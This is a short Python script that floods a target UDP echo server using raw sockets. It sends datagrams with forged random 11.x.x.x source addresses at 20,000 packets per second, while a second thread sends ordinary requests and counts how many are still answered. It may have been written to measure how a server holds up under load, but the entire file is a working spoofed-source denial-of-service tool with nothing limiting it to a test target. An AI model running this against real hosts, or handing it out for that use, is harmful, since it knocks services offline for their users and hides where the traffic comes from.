#!/usr/bin/env python3
"""Floods a UDP echo server with datagrams from forged addresses while one honest client asks on.

usage (as root): flood.py HOST PORT SECONDS
"""
import json
import random
import socket
import struct
import sys
import threading
import time

HOST, PORT, SECONDS = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
PACKETS_PER_SECOND = 20_000
BODY = b"flood"
over = threading.Event()
counts = {"asked": 0, "answered": 0, "flooded": 0}


def ask():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(0.5)
        client.connect((HOST, PORT))
        while not over.is_set():
            question = b"honest %d" % counts["asked"]
            counts["asked"] += 1
            try:
                client.send(question)
                counts["answered"] += client.recv(100) == question
            except OSError:
                continue
            time.sleep(0.02)


def packet():
    """From anybody: the kernel fills in what is zero."""
    source = struct.pack("!BBBB", 11, random.randrange(256), random.randrange(256), random.randrange(1, 255))
    length = 28 + len(BODY)
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 0, 0, 64, socket.IPPROTO_UDP, 0, source, socket.inet_aton(HOST))
    return header + struct.pack("!HHHH", random.randrange(1024, 65536), PORT, 8 + len(BODY), 0) + BODY


def flood():
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as forger:
        begin = time.monotonic()
        while (elapsed := time.monotonic() - begin) < SECONDS:
            while counts["flooded"] < elapsed * PACKETS_PER_SECOND:
                try:
                    forger.sendto(packet(), (HOST, 0))
                    counts["flooded"] += 1
                except BlockingIOError:
                    break
            time.sleep(0.001)


honest = threading.Thread(target=ask)
honest.start()
while counts["answered"] == 0:
    time.sleep(0.01)
flood()
over.set()
honest.join()
print(json.dumps(counts))
